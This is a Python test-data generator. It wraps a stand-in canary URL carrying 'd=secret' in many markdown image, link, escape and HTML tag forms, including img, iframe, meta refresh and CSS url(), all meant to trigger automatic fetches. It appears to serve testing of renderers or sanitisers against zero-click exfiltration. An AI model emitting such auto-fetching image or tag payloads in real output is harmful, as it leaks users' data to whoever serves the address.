"""Texts that would have a platform or a browser fetch an address by itself: pictures in every spelling
of markdown, tags, and what stands around them. Whoever serves the address would read what it says."""

import random

ADDRESS = "http://canary.example/x?d=secret"
PICTURES = (
    *("![a]({})", "![a](<{}>)", '![a]({} "t")', "![a]({} 't')", "![a\nb]({})", "![a](\n{}\n)", "![]({})"),
    *("[![a]({})](http://b.example/)", "![![a]({})]({})", "![[a]]({})", "![*a*]({})", "![a\\]b]({})"),
    *("!![a]({})", "!!![a]({})", "\\![a]({})", "\\\\![a]({})", "\\!![a]({})", "\\\\\\![a]({})", "!\\[a]({})"),
    *("![a][r]\n\n[r]: {}\n", "![r]\n\n[r]: {}\n", "![][r]\n\n[r]: <{}>\n", "![a][R]\n\n[r]:\n{}\n"),
    *("![a]({})![b]({})", "![a] ({})", "!&#91;a]({})", "&#33;[a]({})", "!\u200b[a]({})", "![`]`]({})"),
    *('<img src="{}">', "<img src={}/>", "<IMG\nSRC='{}'>", '<video src="{}">', '<audio src="{}">', "<iframe src={}>"),
    *('<a style="background:url({})">x</a>', '<link rel=preload href="{}">', "<svg><image href='{}'/></svg>"),
    *("<style>@import '{}';</style>", '<object data="{}">', '<meta http-equiv=refresh content="0;url={}">'),
    *("{}", "<{}>", "[a]({})", "<{}|a>", "tg://resolve?domain={}", "![a](data:text/html,<img src={}>)"),
)  # fmt: skip
BEFORE = (
    *(
        "",
        "",
        "a ",
        "> ",
        "- ",
        "1. ",
        "# ",
        "    ",
        "\t",
        "\\",
        "&",
        "**",
        "~~",
        "[x](",
        "<!-- ",
        "<b>",
    ),
    *(
        "`",
        "``",
        "\\`",
        "```\n",
        "~~~\n",
        "- ```\n  ",
        "> ```\n",
        "```a`b\n",
        "<div>\n```\n",
        "<pre>\n",
    ),
    *("| a | b |\n|---|---|\n| ", "- a\n  ```\n  x\n", "$", "||", "\n\n", "1. a\n   ~~~\n\n"),
)
AFTER = (
    "",
    "",
    "\n",
    "\n\n",
    " ",
    "`",
    "``",
    "\n```\n",
    "\n~~~\n",
    "\\",
    "-->",
    "\n- b\n",
    " |\n",
    "</b>",
)


def make_text(chance: random.Random) -> str:
    """One to four of them, each in something."""
    pieces = (
        chance.choice(BEFORE)
        + chance.choice(PICTURES).replace("{}", ADDRESS)
        + chance.choice(AFTER)
        for _ in range(chance.randint(1, 4))
    )
    return "".join(pieces)
